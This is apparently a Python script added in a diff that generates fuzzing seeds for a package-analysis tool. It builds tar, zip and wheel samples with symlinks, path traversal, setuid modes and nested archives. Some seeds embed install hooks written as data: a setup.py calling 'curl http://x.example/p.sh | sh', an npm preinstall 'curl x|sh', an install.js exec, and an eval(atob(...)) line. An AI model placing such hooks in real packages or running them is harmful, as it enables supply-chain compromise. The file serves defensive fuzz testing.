@@ -1,0 +1,112 @@
+#!/usr/bin/env python3
+"""Writes seed inputs for the `package` fuzz target (fuzz/README.md).
+
+Usage: seeds.py OUT_DIR
+
+Each seed is a selector byte (how fuzz_targets/package.rs packs the rest)
+followed by a small package of one shape the readers know. All contents
+are harmless text written here; the "evil" ones only name a capability.
+Standard library only.
+"""
+import gzip, io, os, sys, tarfile, zipfile
+
+SETUP = b"from setuptools import setup\nsetup(name='pkg', version='1.0', packages=['pkg'])\n"
+INIT = b"def add(a, b):\n    return a + b\n"
+EVIL = b"import os\nos.system('curl http://x.example/p.sh | sh')\n"
+PKG_JSON = b'{"name":"pkg","version":"1.0.0","scripts":{"postinstall":"node install.js"}}\n'
+
+# Selectors, as `pack` in fuzz_targets/package.rs reads them.
+TAR_GZ_BY_HARNESS, TAR_GZ_RAW, TAR, ZIP, WHEEL, TGZ_BY_HARNESS, BZ2_BY_HARNESS = 0, 1, 2, 3, 4, 5, 6
+DIFF = 0x80
+
+
+def tar(members, fmt=tarfile.GNU_FORMAT, pax=None):
+    b = io.BytesIO()
+    with tarfile.open(fileobj=b, mode="w", format=fmt, pax_headers=pax) as t:
+        for name, kind, data, *attrs in members:
+            ti = tarfile.TarInfo(name)
+            for k, v in (attrs[0] if attrs else {}).items():
+                setattr(ti, k, v)
+            if kind == "f":
+                ti.size = len(data)
+                t.addfile(ti, io.BytesIO(data))
+            else:
+                ti.type = {"l": tarfile.SYMTYPE, "h": tarfile.LNKTYPE, "d": tarfile.DIRTYPE,
+                           "p": tarfile.FIFOTYPE, "c": tarfile.CHRTYPE}[kind]
+                ti.linkname = data
+                t.addfile(ti)
+    return b.getvalue()
+
+
+def zipb(entries, **kw):
+    b = io.BytesIO()
+    with zipfile.ZipFile(b, "w", **kw) as z:
+        for name, data, mode, comp in entries:
+            zi = zipfile.ZipInfo(name)
+            zi.compress_type = comp
+            if mode is not None:
+                zi.external_attr = mode << 16
+                zi.create_system = 3
+            z.writestr(zi, data)
+    return b.getvalue()
+
+
+def main(out):
+    os.makedirs(out, exist_ok=True)
+    D, S = zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED
+    tars = {
+        "sdist": tar([("pkg-1.0/setup.py", "f", SETUP), ("pkg-1.0/pkg/__init__.py", "f", INIT),
+                      ("pkg-1.0/README.md", "f", b"# pkg\nAdds.\n")]),
+        "sdist-pax": tar([("pkg-1.0/setup.py", "f", SETUP), ("pkg-1.0/" + "a" * 120 + ".py", "f", INIT)],
+                         tarfile.PAX_FORMAT),
+        "pax-override": tar([("p-1/setup.py", "f", SETUP), ("p-1/\u00fc.py", "f", INIT)],
+                            tarfile.PAX_FORMAT, {"comment": "x", "path": "override.py"}),
+        "links": tar([("pkg-1.0/setup.py", "f", SETUP), ("pkg-1.0/etc", "l", "/etc"),
+                      ("pkg-1.0/etc/x", "f", b"x"), ("pkg-1.0/h", "h", "pkg-1.0/setup.py")]),
+        "long-names": tar([("p-1/" + "d" * 150 + "/x.py", "f", INIT), ("p-1/" + "l" * 120, "l", "x" * 200)]),
+        "specials": tar([("p-1/fifo", "p", ""), ("p-1/chr", "c", ""), ("p-1/setup.py", "f", SETUP)]),
+        "odd-paths": tar([("p-1/setup.py", "f", SETUP, {"mode": 0o4755}), ("./p-1/./a//b.py", "f", INIT)]),
+        "duplicate": tar([("p-1/setup.py", "f", SETUP), ("p-1/setup.py", "f", SETUP + EVIL)]),
+        "evil": tar([("pkg-1.0/setup.py", "f", SETUP + EVIL), ("pkg-1.0/pkg/__init__.py", "f", INIT)]),
+        "npm": tar([("package/package.json", "f", PKG_JSON),
+                    ("package/install.js", "f", b"require('child_process').exec('id')\n"),
+                    ("package/index.js", "f", b"module.exports = 1;\n")]),
+        "npm-eval": tar([("package/package.json", "f", b'{"name":"a","scripts":{"preinstall":"curl x|sh"}}'),
+                         ("package/index.js", "f", b'eval(atob("Y29uc29sZS5sb2coMSk="))\n')]),
+        "nested": tar([("pkg-1.0/setup.py", "f", SETUP),
+                       ("pkg-1.0/inner.zip", "f", zipb([("a.py", INIT, None, D)]))]),
+        "dirs": tar([("pkg-1.0/", "d", ""), ("pkg-1.0/pkg/", "d", ""), ("pkg-1.0/pkg/m.py", "f", INIT)]),
+        "opaque": tar([("p-1/x.so", "f", b"\x7fELF" + b"\0" * 60), ("p-1/m.wasm", "f", b"\0asm\1\0\0\0"),
+                       ("p-1/__pycache__/m.cpython-312.pyc", "f", b"\xcb\r\r\n" + b"\0" * 12),
+                       ("p-1/m.py", "f", INIT)]),
+    }
+    zips = {
+        "wheel": zipb([("pkg/__init__.py", INIT, None, D), ("pkg-1.0.dist-info/METADATA", b"Name: pkg\nVersion: 1.0\n", None, D),
+                       ("pkg-1.0.dist-info/RECORD", b"", None, D)]),
+        "zip-sdist": zipb([("pkg-1.0/setup.py", SETUP, None, D), ("pkg-1.0/pkg/__init__.py", INIT, None, D)]),
+        "zip-link": zipb([("pkg/__init__.py", INIT, 0o100644, S), ("pkg/link", "pkg/__init__.py", 0o120777, S),
+                          ("pkg/", b"", 0o40755, S)]),
+        "zip-traversal": zipb([("../evil.py", INIT, None, S), ("/abs.py", INIT, None, D), ("a/../../b.py", INIT, None, S)]),
+        "zip-zip64": zipb([("pkg/big.py", INIT * 50, None, D)], allowZip64=True),
+        "zip-nested": zipb([("pkg/vendored.whl", zipb([("inner/__init__.py", INIT, None, D)]), None, S),
+                            ("pkg/__init__.py", INIT, None, D)]),
+    }
+    seeds = []
+    for t in tars.values():
+        seeds += [(TAR_GZ_BY_HARNESS, t), (TAR, t), (TAR_GZ_RAW, gzip.compress(t)), (BZ2_BY_HARNESS, t)]
+    seeds.append((TGZ_BY_HARNESS, tars["npm"]))
+    for z in zips.values():
+        seeds += [(ZIP, z), (WHEEL, z)]
+    # Version diffs: the second byte says where the old package ends.
+    old, new = tars["sdist"], tars["evil"]
+    for sel in (DIFF | TAR_GZ_BY_HARNESS, DIFF | TAR, DIFF | (TAR << 4) | TAR):
+        cut = (len(old) * 255) // (len(old) + len(new))
+        seeds.append((sel, bytes([cut]) + old + new))
+    for i, (sel, body) in enumerate(seeds):
+        with open(os.path.join(out, f"seed-{i:03d}"), "wb") as f:
+            f.write(bytes([sel]) + body)
+    print(f"{len(seeds)} seeds in {out}")
+
+
+if __name__ == "__main__":
+    main(sys.argv[1])
